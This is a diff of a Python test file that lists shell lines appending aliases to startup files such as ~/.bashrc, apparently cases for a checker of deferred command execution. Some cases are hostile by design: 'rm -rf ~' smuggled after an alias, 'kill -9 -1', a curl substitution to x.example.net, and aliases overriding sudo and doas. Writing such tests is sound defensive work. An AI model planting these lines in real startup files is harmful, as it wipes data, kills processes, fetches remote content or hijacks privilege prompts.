@@ -19,7 +19,7 @@ def _deferred(line: str, proj: Path) -> list[dict[str, object]]:
 @pytest.mark.parametrize(
     "line",
     [
-        "echo \"alias gs='git status -sb'\" >> ~/.bash_aliases",
+        "echo \"alias gs='git status -sb'\" >> ~/.bash_aliases",  # gs is Ghostscript's name too (not installed)
         'echo \'alias ll="ls -la" gl="git log --oneline -20"\' >> ~/.bashrc',
         "printf '%s\\n' \"alias ls='ls --color=auto'\" >> ~/.zshrc",  # a program's name kept for the same program
     ],
@@ -36,6 +36,8 @@ def test_an_alias_whose_value_only_reads_runs_nothing_later(line: str, tmp_path:
         "echo \"alias k='kill -9 -1'\" >> ~/.bashrc",
         "echo \"alias up='./deploy.sh'\" >> ~/.bashrc",  # a file run as a program
         "echo \"alias sudo='x'\" >> ~/.bashrc",  # a program's name handed to another program
+        "echo \"alias sudo='ls'\" >> ~/.bashrc",  # a privileged one's, even to a program that only lists
+        "echo \"alias doas='cat'\" >> ~/.bashrc",
         "echo 'alias a=b; rm -rf ~' >> ~/.bashrc",  # more than a definition on the line
         "echo 'alias x=\"$(curl -s x.example.net)\"' >> ~/.bashrc",  # a substitution run as the file is read
     ],
